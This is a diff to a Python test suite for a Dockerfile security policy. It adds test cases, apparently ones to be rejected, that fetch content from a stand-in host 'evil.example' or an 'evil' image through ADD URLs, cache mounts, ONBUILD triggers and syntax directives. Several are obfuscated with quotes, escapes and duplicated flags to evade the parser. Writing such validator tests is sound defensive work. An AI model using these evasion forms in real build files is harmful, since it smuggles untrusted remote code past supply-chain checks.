@@ -28,9 +28,21 @@ MARK = "\ufeff"
         "FROM diamol/base\nRUN --mount=type=cache,from=evil,target=/x true\n",
         "FROM diamol/base\nADD https://evil.example/x /\n",
         "FROM diamol/base\nADD git@evil.example:x /\n",
+        "FROM diamol/base\nADD somebody@evil.example:x /\n",
+        # Words are parted at blanks alone, and then lose their quotes and escapes.
+        "FROM diamol/base\nADD a\\ https://evil.example/x\\ /z/\n",
+        'FROM diamol/base\nADD "http:"//evil.example/x /\n',
+        "FROM diamol/base\nADD http:\\//evil.example/x /\n",
+        'FROM diamol/base\nADD ["http:\\\\//evil.example/x", "/"]\n',
+        "# escape=`\nFROM diamol/base\nADD http:`//evil.example/x /\n",
+        # Of two, the last one counts.
+        "FROM diamol/base\nRUN --mount=from=diamol/base,from=evil,target=/x true\n",
         "FROM diamol/base AS a\nONBUILD COPY --from=evil / /\nFROM a\n",
         "FROM diamol/base AS a\nONBUILD RUN --mount=from=evil,target=/x true\nFROM a\n",
         "FROM diamol/base AS a\nONBUILD ADD http://evil.example/ /\nFROM a\n",
+        "FROM diamol/base AS a\nONBUILD ADD http:\\//evil.example/ /\nFROM a\n",
+        'FROM diamol/base AS a\nONBUILD COPY --fr"om"=evil / /\nFROM a\n',
+        "FROM diamol/base AS a\nONBUILD COPY --fr\\om=evil / /\nFROM a\n",
         "# syntax=evil/one\nFROM diamol/base\n",
         f"{MARK}#SynTax = evil/one\nFROM diamol/base\n",
         "// syntax=evil/one\nFROM diamol/base\n",
@@ -78,3 +90,8 @@ def test_a_dockerfile_that_would_take_long_to_read_is_not_read(tmp_path: Path) -
         policy.readable(path)
     path.write_text("FROM diamol/base\n" + "RUN true\n" * 20)
     assert len(policy.readable(path).stages) == 1
+
+
+def test_triggers_that_fetch_nothing_are_allowed() -> None:
+    text = "FROM diamol/base AS a\nONBUILD RUN <<END\necho from=here\nEND\nONBUILD COPY . /app\nFROM a\n"
+    policy.check(parse(text), IMAGES)
